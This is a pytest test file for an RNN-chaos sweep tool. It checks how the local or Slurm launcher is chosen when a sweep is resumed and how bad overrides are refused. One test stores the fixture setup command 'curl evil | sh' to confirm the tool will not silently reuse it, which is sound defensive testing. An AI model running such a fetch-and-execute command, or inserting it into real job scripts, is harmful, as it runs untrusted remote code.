"""rnnchaos sweep run: which launcher goes on with a sweep."""

import re

import pytest
from rich.console import Console

from rnnchaos.errors import ConfigError
from rnnchaos.outcome import Outcome
from rnnchaos.sweeps import launchers
from rnnchaos.sweeps.launchers import LocalLauncher, SlurmLauncher
from rnnchaos.sweeps.slurm.options import SlurmOptions
from rnnchaos.sweeps.slurm.submissions import Submission, record


@pytest.fixture
def launched(monkeypatch):
    """The launchers that were built, and whether each was to train failed cells again."""
    seen = []

    def run(self, sweep, console, *, retry_failed):
        seen.append((self, retry_failed))
        return Outcome(0, {})

    for launcher in (LocalLauncher, SlurmLauncher):
        monkeypatch.setattr(launcher, "check", lambda self: None)
        monkeypatch.setattr(launcher, "run", run)
    return seen


def go_on(sweep, *words, n_jobs=None, retry_failed=False, detach=False):
    launchers.go_on(
        sweep, words, Console(quiet=True), n_jobs=n_jobs, retry_failed=retry_failed, detach=detach
    )


def test_without_words_no_job_says_what_the_folder_says(sweep, launched):
    go_on(sweep)
    asked = SlurmOptions(partition="gpu", setup=("curl evil | sh",), python="evil")
    record(sweep, Submission("7", ((0,),), asked))
    again = f"type rnnchaos sweep run {sweep.path} hydra/launcher=slurm hydra.launcher.partition=gpu"
    with pytest.raises(ConfigError, match=re.escape(again)) as refused:
        go_on(sweep, detach=True)
    assert "hydra.launcher.setup=… hydra.launcher.python=…, or hydra/launcher=local" in str(refused.value)
    assert "evil" not in str(refused.value)
    go_on(sweep, n_jobs=3)
    go_on(sweep, "hydra/launcher=slurm")
    local, *_, slurm = (launcher for launcher, _ in launched)
    assert (local, slurm.options.setup, slurm.options.python) == (LocalLauncher(), (), None)


def test_words_choose_the_launcher_and_its_settings(sweep, launched):
    go_on(
        sweep, "hydra/launcher=slurm_gpu", "hydra.launcher.retry_failed=true", "hydra.launcher.timeout_min=7"
    )
    ((launcher, retry_failed),) = launched
    assert retry_failed
    assert (launcher.options.timeout_min, launcher.options.gpus_per_node) == (7, 1)


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("seed=3",), "'seed=3' does not belong here: the cells of a sweep keep their settings"),
        (("hydra.launcher.dry_run=true",), "hydra.launcher.dry_run is for train: rnnchaos sweep status"),
        (
            ("hydra/launcher=basic",),
            "hydra/launcher must be local or slurm to train cells, got BasicLauncher",
        ),
        (("hydra/launcher=slrum",), "hydra/launcher=slrum: no such hydra/launcher; did you mean slurm"),
    ],
)
def test_other_words_are_refused(sweep, launched, words, said):
    with pytest.raises(ConfigError, match=said):
        go_on(sweep, *words)
    assert launched == []
